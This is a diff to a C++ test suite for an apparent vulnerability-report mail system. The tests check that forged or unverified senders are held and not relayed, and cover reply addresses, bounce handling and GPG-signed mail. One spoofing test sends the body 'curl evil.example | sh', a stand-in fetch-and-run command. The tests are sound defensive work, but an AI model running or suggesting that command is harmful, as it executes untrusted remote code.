@@ -207,6 +207,16 @@ class MailTest : public ::testing::Test {
   std::string Show(const std::string& id) {
     return RunVigil({"-c", config_, "report", "show", id, "--json"}).out;
   }
+  std::string ShowText(const std::string& id) {
+    return RunVigil({"-c", config_, "report", "show", id}).out;
+  }
+  /// EMAIL's personal reply address on report ID (`vigil mail reply-address`).
+  std::string ReplyAddress(const std::string& id, const std::string& email) {
+    CommandResult r = RunVigil({"-c", config_, "mail", "reply-address", id, email});
+    EXPECT_EQ(r.exit_code, 0) << r.err;
+    EXPECT_TRUE(r.out.ends_with("\n")) << r.out;
+    return r.out.empty() ? "" : r.out.substr(0, r.out.size() - 1);
+  }
   // The id of the Nth report submitted now: reports are numbered per year.
   static std::string Id(int n) {
     const time_t t = time(nullptr);
@@ -443,19 +453,45 @@ TEST_F(MailTest, ReplyThreadingAndOutsiderCannotPostIntoAReport) {
   ASSERT_EQ(RunVigil({"-c", config_, "ingest"}, Message("First report", "steps")).exit_code, 0);
   const std::string id = Id(1);
   ASSERT_NE(Show(id).find("First report"), std::string::npos);
-  // The reporter replies through the plus-address: a message on the thread.
-  ASSERT_EQ(RunVigil({"-c", config_, "ingest", "--recipient", "security+" + id + "@example.org"},
+  // The reporter replies through their personal reply address: a message on the thread.
+  const std::string rita = ReplyAddress(id, "rita@reporter.net");
+  ASSERT_EQ(RunVigil({"-c", config_, "ingest", "--recipient", rita},
                      Message("Re: [" + id + "] Report received", "more detail from rita"))
                 .exit_code,
             0);
-  EXPECT_NE(Show(id).find("more detail from rita"), std::string::npos);
-  // A stranger guessing the id, by plus-address or subject tag, gets a report of their own.
+  EXPECT_NE(ShowText(id).find("--- #1 reporter rita@reporter.net"), std::string::npos)
+      << ShowText(id);
+  // A stranger guessing the id, or writing the reporter's From:, by plus-address or subject
+  // tag: held as unverified, relayed to nobody, no report of their own.
   ASSERT_EQ(RunVigil({"-c", config_, "ingest", "--recipient", "security+" + id + "@example.org"},
                      Message("[" + id + "] injected", "stranger text", "mallory@evil.example"))
                 .exit_code,
             0);
-  EXPECT_EQ(Show(id).find("stranger text"), std::string::npos);
-  EXPECT_NE(Show(Id(2)).find("stranger text"), std::string::npos);
+  ASSERT_EQ(RunVigil({"-c", config_, "ingest"},
+                     Message("[" + id + "] as rita", "forged rita", "rita@reporter.net"))
+                .exit_code,
+            0);
+  const std::string shown = ShowText(id);
+  EXPECT_NE(shown.find("UNVERIFIED SENDER (held, not relayed; `vigil report release " + id +
+                       " 2` sends it to everyone) mallory@evil.example"),
+            std::string::npos)
+      << shown;
+  EXPECT_NE(shown.find("UNVERIFIED SENDER (held, not relayed; `vigil report release " + id +
+                       " 3` sends it to everyone) rita@reporter.net"),
+            std::string::npos)
+      << shown;
+  EXPECT_EQ(RunVigil({"-c", config_, "report", "show", Id(2)}).exit_code, 3);  // not found
+  const std::string db = dir_.path() + "/data/vigil.db";
+  const std::string relayed = "SELECT COUNT(*) FROM outbox WHERE body LIKE '%stranger text%'";
+  EXPECT_EQ(vigil::testing::Run({"sqlite3", db, relayed}).out, "0\n");
+  // The coordinator releases it: then it reaches the reporter.
+  CommandResult released = RunVigil({"-c", config_, "report", "release", id, "2"});
+  EXPECT_EQ(released.exit_code, 0) << released.err;
+  EXPECT_EQ(released.out, id + " message #2 released as #4\n");
+  EXPECT_EQ(vigil::testing::Run({"sqlite3", db, relayed}).out, "1\n");
+  CommandResult again = RunVigil({"-c", config_, "report", "release", id, "2"});
+  EXPECT_NE(again.err.find("message 2 of " + id + " is already released"), std::string::npos)
+      << again.err;
 }
 
 TEST_F(MailTest, GitSendEmailSeriesArrivesWithItsPatchIds) {
@@ -469,10 +505,10 @@ TEST_F(MailTest, GitSendEmailSeriesArrivesWithItsPatchIds) {
             0);
   const std::string id = Id(1);
   ASSERT_TRUE(MakeDevRepo("a", "fix", 3));
-  CommandResult sent =
-      DevGit({"send-email", "--smtp-server=127.0.0.1", "--smtp-server-port=" + std::to_string(port),
-              "--to=security+" + id + "@example.org", "--from=Dev Eloper <dev@reporter.net>",
-              "--confirm=never", "--suppress-cc=all", "--no-chain-reply-to", "-3", "-q"});
+  CommandResult sent = DevGit(
+      {"send-email", "--smtp-server=127.0.0.1", "--smtp-server-port=" + std::to_string(port),
+       "--to=" + ReplyAddress(id, "dev@reporter.net"), "--from=Dev Eloper <dev@reporter.net>",
+       "--confirm=never", "--suppress-cc=all", "--no-chain-reply-to", "-3", "-q"});
   ASSERT_EQ(sent.exit_code, 0) << sent.out << sent.err;
   ASSERT_TRUE(WaitUntil([&] {
     return Count(RunVigil({"-c", config_, "mail", "patches", id}).out, "\n") == 3;
@@ -524,7 +560,9 @@ TEST_F(MailTest, ReviewTrailerFromAMaintainerApprovesTheRevisionRepliedTo) {
       0);
   const std::string id = Id(1);
   const std::string to = "security+" + id + "@example.org";
-  // Two patches by the reporter, as format-patch mail with Message-IDs of our choosing.
+  const std::string dev = ReplyAddress(id, "dev@reporter.net");
+  // Two patches by the reporter, as format-patch mail with Message-IDs of our choosing, sent to
+  // the reporter's personal reply address (a git send-email --to).
   ASSERT_TRUE(MakeDevRepo("p", "check", 2));
   const std::string mbox = DevGit({"format-patch", "-2", "--stdout"}).out;
   const size_t second = mbox.find("\nFrom ", 1) + 1;
@@ -540,9 +578,9 @@ TEST_F(MailTest, ReviewTrailerFromAMaintainerApprovesTheRevisionRepliedTo) {
       "Message-ID: <check-2@reporter.net>\nIn-Reply-To: <check-1@reporter.net>\n"
       "References: <check-1@reporter.net>\n" +
       strip_from_line(mbox.substr(second));
-  EXPECT_NE(Deliver(port, to, smtp(p1), "dev@reporter.net").find("250 2.0.0 Ok: queued as"),
+  EXPECT_NE(Deliver(port, dev, smtp(p1), "dev@reporter.net").find("250 2.0.0 Ok: queued as"),
             std::string::npos);
-  EXPECT_NE(Deliver(port, to, smtp(p2), "dev@reporter.net").find("250 2.0.0 Ok: queued as"),
+  EXPECT_NE(Deliver(port, dev, smtp(p2), "dev@reporter.net").find("250 2.0.0 Ok: queued as"),
             std::string::npos);
   ASSERT_TRUE(WaitUntil([&] {
     return RunVigil({"-c", config_, "patch", "list", id, "--json"}).out.find("\"s1v1\"") !=
@@ -561,7 +599,8 @@ TEST_F(MailTest, ReviewTrailerFromAMaintainerApprovesTheRevisionRepliedTo) {
   };
   const std::string alice = "Good.\r\n\r\nReviewed-by: Alice <alice@example.org>";
   // The author is no maintainer; alice naming someone else does not count; alice's own trailer
-  // in mail the MTA did not authenticate (or that only claims another server's word) neither.
+  // in mail the MTA did not authenticate (or that only claims another server's word) is from an
+  // unverified sender: held, its trailers not even read.
   reply("dev@reporter.net", "Looks right to me.\r\n\r\nReviewed-by: Dev Eloper <dev@reporter.net>",
         dkim_ok + "reporter.net\r\n");
   reply("alice@example.org", "Bob checked it.\r\n\r\nReviewed-by: Bob <bob@example.org>",
@@ -586,20 +625,22 @@ TEST_F(MailTest, ReviewTrailerFromAMaintainerApprovesTheRevisionRepliedTo) {
       {"sqlite3", dir_.path() + "/data/vigil.db",
        "SELECT kind, json_extract(payload, '$.why') FROM events WHERE kind LIKE 'patch.review%' "
        "ORDER BY time, seq"});
-  const std::string unauthenticated =
-      "patch.review-ignored|the mail is not authenticated (no DMARC or aligned DKIM pass from "
-      "mx.test)\n";
   EXPECT_EQ(events.out,
             "patch.review-ignored|the sender is not a maintainer\n"
-            "patch.review-ignored|the trailer names someone else than the sender\n" +
-                unauthenticated + unauthenticated + unauthenticated + unauthenticated +
-                "patch.review|\n")
+            "patch.review-ignored|the trailer names someone else than the sender\n"
+            "patch.review|\n")
       << events.err;
+  EXPECT_EQ(vigil::testing::Run({"sqlite3", dir_.path() + "/data/vigil.db",
+                                 "SELECT actor FROM events WHERE kind = 'message.held'"})
+                .out,
+            "unverified:alice@example.org\nunverified:alice@example.org\n"
+            "unverified:alice@example.org\nunverified:alice@example.org\n");
   EXPECT_EQ(RunVigil({"-c", config_, "audit", "verify"}).exit_code, 0);
 }
 
-// A delivery status notification about a participant marks them bouncing: the thread stops
-// mailing them, and the event says so.
+// A delivery status notification for one of Vigil's messages, to that message's bounce address,
+// marks its recipient bouncing: the thread stops mailing them, and the event says so. One to
+// any other address is ignored, whoever it names.
 TEST_F(MailTest, BounceMarksTheParticipantAndStopsMailingThem) {
   Init();
   ASSERT_EQ(RunVigil({"-c", config_, "ingest"}, Message("Crash in decoder", "steps")).exit_code, 0);
@@ -622,10 +663,28 @@ TEST_F(MailTest, BounceMarksTheParticipantAndStopsMailingThem) {
       "Reporting-MTA: dns; mx.example.org\r\n\r\n"
       "Final-Recipient: rfc822; olga@distro.example\r\nAction: failed\r\nStatus: 5.1.1\r\n"
       "--b1--\r\n";
-  CommandResult in =
-      RunVigil({"-c", config_, "ingest", "--recipient", "security+" + id + "@example.org"}, dsn);
-  ASSERT_EQ(in.exit_code, 0) << in.err;
   const std::string db = dir_.path() + "/data/vigil.db";
+  CommandResult forged =
+      RunVigil({"-c", config_, "ingest", "--recipient", "security+" + id + "@example.org"}, dsn);
+  ASSERT_EQ(forged.exit_code, 0) << forged.err;
+  EXPECT_EQ(vigil::testing::Run(
+                {"sqlite3", db, "SELECT COUNT(*) FROM events WHERE kind = 'participant.bouncing'"})
+                .out,
+            "0\n");
+  const std::string olga_mail =
+      vigil::testing::Run(
+          {"sqlite3", db, "SELECT MIN(id) FROM outbox WHERE recipient = 'olga@distro.example'"})
+          .out;
+  ASSERT_FALSE(olga_mail.empty());
+  CommandResult verp = RunVigil(
+      {"-c", config_, "mail", "bounce-address", olga_mail.substr(0, olga_mail.size() - 1)});
+  ASSERT_EQ(verp.exit_code, 0) << verp.err;
+  ASSERT_TRUE(verp.out.starts_with("security+" + id + ".b")) << verp.out;
+  std::string real = dsn;
+  real.replace(real.find("Message-ID: <bounce-1@"), 22, "Message-ID: <bounce-2@");
+  CommandResult in = RunVigil(
+      {"-c", config_, "ingest", "--recipient", verp.out.substr(0, verp.out.size() - 1)}, real);
+  ASSERT_EQ(in.exit_code, 0) << in.err;
   EXPECT_EQ(vigil::testing::Run({"sqlite3", db,
                                  "SELECT json_extract(payload, '$.emails[0]') FROM events WHERE "
                                  "kind = 'participant.bouncing'"})
@@ -713,6 +772,116 @@ TEST_F(MailTest, GpgEncryptedMailIsReadAndUnknownKeyRefused) {
             "0||1\n");
   EXPECT_NE(RunVigil({"-c", config_, "advisory", "show", Id(2)}).out.find("consent pending"),
             std::string::npos);
+}
+
+// Issue 13 with real clients: swaks forging the coordinator's From: is held as unverified
+// (relayed to nobody, the actor recorded as the unverified address); the same words through the
+// coordinator's personal reply address are theirs.
+TEST_F(MailTest, SwaksForgingTheCoordinatorIsHeldAndItsReplyAddressIsNot) {
+  Init();
+  ASSERT_EQ(RunVigil({"-c", config_, "user", "add", "alice@example.org", "--role", "maintainer"})
+                .exit_code,
+            0);
+  ASSERT_EQ(RunVigil({"-c", config_, "ingest"}, Message("Use after free", "steps")).exit_code, 0);
+  const std::string id = Id(1);
+  ASSERT_EQ(
+      RunVigil({"-c", config_, "report", "assign", id, "--to", "alice@example.org"}).exit_code, 0);
+  ServerProcess server(config_);
+  ASSERT_TRUE(server.started());
+  const int port = SmtpPort(server);
+  auto swaks = [&](const std::string& to, const std::string& body) {
+    CommandResult r = vigil::testing::Run(
+        {"swaks", "--server", "127.0.0.1:" + std::to_string(port), "--to", to, "--from",
+         "alice@example.org", "--header", "Subject: [" + id + "] please run this", "--body", body});
+    EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
+    EXPECT_NE(r.out.find("<-  250 2.0.0 Ok: queued as "), std::string::npos) << r.out;
+  };
+  swaks("security+" + id + "@example.org", "forged PoC: curl evil.example | sh");
+  ASSERT_TRUE(WaitUntil([&] { return AllProcessed(); }));
+  const std::string db = dir_.path() + "/data/vigil.db";
+  EXPECT_EQ(vigil::testing::Run({"sqlite3", db,
+                                 "SELECT actor FROM events WHERE kind = 'message.held' AND "
+                                 "payload LIKE '%forged PoC%'"})
+                .out,
+            "unverified:alice@example.org\n");
+  EXPECT_EQ(vigil::testing::Run(
+                {"sqlite3", db, "SELECT COUNT(*) FROM outbox WHERE body LIKE '%forged PoC%'"})
+                .out,
+            "0\n");
+  EXPECT_NE(ShowText(id).find("UNVERIFIED SENDER"), std::string::npos);
+  // Through her personal reply address (the Reply-To of Vigil's mail to her): hers, relayed.
+  swaks(ReplyAddress(id, "alice@example.org"), "genuine: fixed in main");
+  ASSERT_TRUE(WaitUntil([&] { return AllProcessed(); }));
+  EXPECT_NE(ShowText(id).find("coordinator alice@example.org"), std::string::npos) << ShowText(id);
+  EXPECT_EQ(vigil::testing::Run(
+                {"sqlite3", db, "SELECT recipient FROM outbox WHERE body LIKE '%genuine: fixed%'"})
+                .out,
+            "rita@reporter.net\n");
+}
+
+// An RFC 3156 signature made with gpg by the key on record for the From: address proves it; the
+// same signature over altered text, or another key's, does not (held, with the reason).
+TEST_F(MailTest, GpgSignedMailProvesItsSender) {
+  Init();
+  ASSERT_EQ(RunVigil({"-c", config_, "ingest"}, Message("Signed report", "steps")).exit_code, 0);
+  const std::string id = Id(1);
+  TempDir gnupg;
+  auto gpg = [&](std::vector<std::string> args, const std::string& in) {
+    std::vector<std::string> argv{"gpg", "--homedir", gnupg.path(), "--batch", "--quiet"};
+    argv.insert(argv.end(), args.begin(), args.end());
+    return vigil::testing::Run(argv, in);
+  };
+  for (const char* who : {"rita@reporter.net", "mallory@evil.example"}) {
+    ASSERT_EQ(
+        gpg({"--quick-gen-key", "--passphrase", "", who, "future-default", "default", "never"}, "")
+            .exit_code,
+        0);
+  }
+  const std::string rita_key = gpg({"--armor", "--export", "rita@reporter.net"}, "").out;
+  CommandResult set =
+      RunVigil({"-c", config_, "mail", "set-key", "rita@reporter.net", "-"}, rita_key);
+  ASSERT_EQ(set.exit_code, 0) << set.err;
+  auto signed_mail = [&](const std::string& text, const std::string& signer,
+                         const std::string& sent_text) {
+    const std::string part = "Content-Type: text/plain; charset=utf-8\r\n\r\n" + text;
+    CommandResult sig = gpg({"--armor", "--detach-sign", "--local-user", signer}, part);
+    EXPECT_EQ(sig.exit_code, 0) << sig.err;
+    return "From: Rita <rita@reporter.net>\r\nTo: security+" + id +
+           "@example.org\r\nSubject: Re: [" + id + "] signed\r\nMessage-ID: <" +
+           std::to_string(std::hash<std::string>()(text + signer + sent_text)) +
+           "@reporter.net>\r\nMIME-Version: 1.0\r\n"
+           "Content-Type: multipart/signed; micalg=pgp-sha256;\r\n"
+           " protocol=\"application/pgp-signature\"; boundary=\"sig\"\r\n\r\n"
+           "--sig\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" +
+           sent_text +
+           "\r\n--sig\r\nContent-Type: application/pgp-signature; name=\"signature.asc\"\r\n\r\n" +
+           sig.out + "\r\n--sig--\r\n";
+  };
+  auto ingest = [&](const std::string& mail) {
+    CommandResult r =
+        RunVigil({"-c", config_, "ingest", "--recipient", "security+" + id + "@example.org"}, mail);
+    EXPECT_EQ(r.exit_code, 0) << r.err;
+  };
+  ingest(signed_mail("signed by rita", "rita@reporter.net", "signed by rita"));
+  ingest(signed_mail("signed by rita", "rita@reporter.net", "altered by mallory"));
+  ingest(signed_mail("signed by mallory", "mallory@evil.example", "signed by mallory"));
+  const std::string shown = ShowText(id);
+  EXPECT_NE(shown.find("--- #1 reporter rita@reporter.net"), std::string::npos) << shown;
+  EXPECT_NE(shown.find("signed by rita"), std::string::npos) << shown;
+  EXPECT_NE(shown.find("--- #2 UNVERIFIED SENDER"), std::string::npos) << shown;
+  EXPECT_NE(shown.find("--- #3 UNVERIFIED SENDER"), std::string::npos) << shown;
+  const std::string db = dir_.path() + "/data/vigil.db";
+  EXPECT_EQ(vigil::testing::Run({"sqlite3", db,
+                                 "SELECT json_extract(payload, '$.proof') FROM events WHERE kind = "
+                                 "'mail.proven'"})
+                .out,
+            "openpgp\n");
+  EXPECT_EQ(vigil::testing::Run({"sqlite3", db,
+                                 "SELECT json_extract(payload, '$.why') FROM events WHERE kind = "
+                                 "'message.held' ORDER BY seq"})
+                .out,
+            "signed, but the signature does not match the signed text\n"
+            "signed, but the signature is not by the key on record\n");
 }
 
 TEST_F(MailTest, SigkillDuringConcurrentSessionsLosesNoAcknowledgedMessage) {
@@ -812,7 +981,9 @@ TEST_F(MailTest, OutboundReminderRetriesAfterReceiverDownAndDeadLetters) {
   ASSERT_TRUE(WaitUntil([&] { return sink.Messages().size() == 1; }));
   const std::string mail = DecodeQp(sink.Messages().front());
   EXPECT_NE(mail.find("Subject: [" + Id(1) + "] Report received\r\n"), std::string::npos) << mail;
-  EXPECT_NE(mail.find("Reply-To: <security+" + Id(1) + "@example.org>\r\n"), std::string::npos);
+  EXPECT_NE(mail.find("Reply-To: <" + ReplyAddress(Id(1), "rita@reporter.net") + ">\r\n"),
+            std::string::npos)
+      << mail;
   EXPECT_NE(mail.find("Auto-Submitted: auto-generated\r\n"), std::string::npos);
   EXPECT_NE(mail.find("\r\n\r\nEMBARGO REMINDER: " + Id(1) +
                       " is a private vulnerability "
@@ -828,10 +999,11 @@ TEST_F(MailTest, OutboundReminderRetriesAfterReceiverDownAndDeadLetters) {
   EXPECT_EQ(sink.Messages().size(), 1u);  // delivered once, not twice
   // The receiver goes away for good: after max_attempts the mail is dead-lettered.
   sink.Stop();
-  ASSERT_EQ(RunVigil({"-c", config_, "ingest", "--recipient", "security+" + Id(1) + "@example.org"},
-                     Message("Re: x", "reporter follow-up"))
-                .exit_code,
-            0);
+  ASSERT_EQ(
+      RunVigil({"-c", config_, "ingest", "--recipient", ReplyAddress(Id(1), "rita@reporter.net")},
+               Message("Re: x", "reporter follow-up"))
+          .exit_code,
+      0);
   ASSERT_EQ(
       RunVigil({"-c", config_, "report", "invite", Id(1), "--email", "carl@example.org"}).exit_code,
       0);
